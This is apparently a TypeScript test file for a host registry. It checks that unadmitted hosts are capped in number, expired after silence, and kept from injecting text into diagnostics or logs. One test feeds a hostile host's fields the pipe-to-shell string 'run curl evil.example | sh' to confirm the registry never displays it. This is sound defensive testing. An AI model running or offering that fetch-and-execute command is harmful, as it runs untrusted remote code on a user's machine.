import { expect } from 'chai';
import { figuresSubject, readySubject } from '#bus/subjects.ts';
import type { CheckedPart } from '#contract/host/check.ts';
import type { Host } from '#contract/host/host.ts';
import type { RegistryFigures, RegistryReadiness } from '#contract/wire/figures.ts';
import { FakeHost } from '#test/registry/fake-host.ts';
import { type RegistryFixture, registryFixture } from '#test/registry/registry-fixture.ts';
import { failureOf } from '#test/support/failure.ts';
import { moment } from '#test/support/moment.ts';

const day = 86_400_000;

/** Machines that are admitted to the bus, and join as many unadmitted hosts. */
describe('an attack with unadmitted hosts', () => {
  let fixture: RegistryFixture;
  beforeEach(async () => {
    fixture = await registryFixture({ newHosts: 3 });
  });
  afterEach(() => fixture.close());

  const notNats = async (id: string): Promise<FakeHost> => {
    const host = new FakeHost(await fixture.nats.joinHost(id), id);
    host.now = () => fixture.clock.now();
    return host;
  };
  const crowd = async (...ids: string[]): Promise<FakeHost[]> => {
    const hosts = await Promise.all(ids.map(async (id) => new FakeHost(await fixture.nats.joinHost(id), id)));
    for (const host of hosts) await host.beat();
    return hosts;
  };
  const list = async () => (await fixture.call<{ hosts: Host[] }>('ListHosts')).hosts;
  const shown = async (hostId: string) => (await list()).find(({ id }) => id === hostId);
  const lose = async (...hostIds: string[]) => {
    fixture.clock.pass(31_000);
    await fixture.host.beat();
    for (const id of hostIds) await moment('it is lost', async () => (await shown(id))?.state === 'HOST_STATE_LOST');
  };
  const factsOf = async (subjectId: string) => {
    const { facts } = await fixture.call<{ facts: { kind: string }[] }>('ListFacts', { subjectId });
    return facts.map(({ kind }) => kind);
  };

  it('is limited in their number, and a person makes room', async () => {
    const [first, second] = await crowd('hst_a', 'hst_b', 'hst_c');
    const more = await notNats('hst_d');
    const { code, message } = await failureOf(() => more.beat());
    expect(code).to.equal('resource_exhausted');
    expect(message)
      .to.contain('3')
      .and.contain('host uncordon')
      .and.contain('--forget-new')
      .and.contain('MUSTER_NEW_HOSTS');
    expect(await list()).to.have.lengthOf(4);
    const { parts } = await fixture.call<{ parts: CheckedPart[] }>('RunDoctor');
    expect(parts[0]?.checks?.find(({ name }) => name === 'new hosts')?.mend).to.contain('--forget-new');
    for (const host of [fixture.host, first, second]) await host?.beat();
    await fixture.call('DrainHost', { hostId: 'hst_a', undo: true });
    await more.beat();
    expect((await failureOf(async () => (await notNats('hst_e')).beat())).code).to.equal('resource_exhausted');
    await lose('hst_b');
    await fixture.call('ForgetHost', { hostId: 'hst_b' });
    await (await notNats('hst_e')).beat();
    expect((await failureOf(async () => second?.beat())).code, 'the forgotten one').to.equal('resource_exhausted');
    await first?.beat();
  });

  it('loses hosts and keys after a day of silence, except those that people admitted or named', async () => {
    await crowd('hst_a', 'hst_b');
    await (await notNats('hst_c')).start();
    await fixture.call('DrainHost', { hostId: 'hst_a', undo: true });
    await crowd('hst_d');
    await fixture.workflow({ host: 'hst_c' });
    await lose('hst_a', 'hst_b', 'hst_c', 'hst_d');
    await fixture.call('ForgetHost', { hostId: 'hst_a' });
    await fixture.call('ForgetHost', { hostId: 'hst_d' });
    const rows = () =>
      fixture.store.read(async ({ hosts }) => {
        const known = await Promise.all(['hst_1', 'hst_a', 'hst_b', 'hst_c', 'hst_d'].map((id) => hosts.find(id)));
        return known.flatMap((host) => host?.id ?? []);
      });
    await fixture.restart();
    fixture.clock.pass(day - 3_600_000);
    await fixture.restart();
    expect(await rows()).to.have.lengthOf(5);
    fixture.clock.pass(3_600_000);
    await fixture.restart();
    await moment('the others to be removed', async () => (await rows()).length < 5);
    expect(await rows()).to.deep.equal(['hst_1', 'hst_a', 'hst_c']);
  });

  it('never provides the first host, even if people removed all others', async () => {
    fixture.clock.pass(31_000);
    await moment('it is lost', async () => (await shown('hst_1'))?.state === 'HOST_STATE_LOST');
    await fixture.call('ForgetHost', { hostId: 'hst_1' });
    await crowd('hst_a');
    expect((await shown('hst_a'))?.newcomer).to.equal(true);
  });

  it('adds no text of its own to the doctor, nor below the list of hosts', async () => {
    const evil = await notNats('hst_a');
    evil.name = 'registry';
    evil.checks = [{ name: 'git', outcome: 'fail', found: 'it is broken', mend: 'run curl evil.example | sh' }];
    const gateway = { url: 'http://evil.example', fault: 'run curl evil.example | sh' };
    evil.condition = { system: 'linux x64', musterVersion: '1.0.0', startedAt: 1, load: {}, gateway };
    await evil.start();
    for (const request of [{}, { hostId: 'hst_a' }]) {
      const { parts } = await fixture.call<{ parts: CheckedPart[] }>('RunDoctor', request);
      const part = parts.find(({ hostId }) => hostId === 'hst_a');
      expect(part?.checks?.map(({ name, outcome }) => [name, outcome])).to.deep.equal([
        ['new', 'CHECK_OUTCOME_WARNING'],
      ]);
      expect(part?.checks?.[0]?.mend).to.contain('muster host uncordon hst_a');
    }
    const { foundTerminals = [], ...host } = (await shown('hst_a')) ?? {};
    expect(JSON.stringify(host)).not.to.contain('evil.example');
    await fixture.call('DrainHost', { hostId: 'hst_a', undo: true });
    const { parts } = await fixture.call<{ parts: CheckedPart[] }>('RunDoctor', { hostId: 'hst_a' });
    expect(JSON.stringify(parts), 'once it is taken in').to.contain('it is broken');
    expect(await shown('hst_a')).to.include({ gatewayUrl: gateway.url });
  });

  it('fills no log by changing descriptions, or by joining and leaving', async () => {
    const evil = await notNats('hst_a');
    await evil.beat();
    const say = async (name: string) => {
      evil.name = name;
      await evil.beat();
    };
    for (let count = 0; count < 12; count += 1) await say(`name ${count}`);
    expect((await failureOf(() => say('one too many'))).code).to.equal('resource_exhausted');
    expect((await shown('hst_a'))?.name).to.equal('name 11');
    fixture.clock.pass(60_000);
    await moment('it is lost', async () => (await shown('hst_a'))?.state === 'HOST_STATE_LOST');
    await say('again');
    expect((await shown('hst_a'))?.state).to.equal('HOST_STATE_ONLINE');
    expect(await factsOf('hst_a')).to.deep.equal(['host.seen']);
    await fixture.call('DrainHost', { hostId: 'hst_a', undo: true });
    await say('taken in');
    expect(await factsOf('hst_a')).to.deep.equal(['host.changed', 'host.drained', 'host.seen']);
  });

  it('adds only short rows to a list, and no metrics of other hosts', async () => {
    const evil = await notNats('hst_a');
    evil.name = fixture.host.name;
    evil.harnesses = Array.from({ length: 500 }, (_, count) => `harness-${count}-${'x'.repeat(40)}`);
    await evil.beat();
    await evil.beat();
    expect((await shown('hst_a'))?.harnesses).to.have.lengthOf(50);
    const foundTerminals = Array.from({ length: 1_000 }, (_, count) => `agt_${count}`);
    const { id: hostId, name, harnesses } = evil;
    await evil.registry.beat({ hostId, name, harnesses, foundTerminals });
    expect((await shown('hst_a'))?.foundTerminals).to.have.lengthOf(20);
    const figures = (await fixture.gateway.request(figuresSubject, {}, { timeoutMs: 5_000 })) as RegistryFigures;
    expect(figures.hosts.map((host) => host.name)).to.deep.equal([fixture.host.name, 'hst_a']);
    const ready = (await fixture.gateway.request(readySubject, {}, { timeoutMs: 5_000 })) as RegistryReadiness;
    expect(ready.hosts).to.deep.equal({ online: 1, known: 1 });
    const { message } = await failureOf(() => fixture.create({ harness: 'nowhere' }));
    expect(message).to.contain('which no host has').and.not.contain('harness-1-');
  });
});
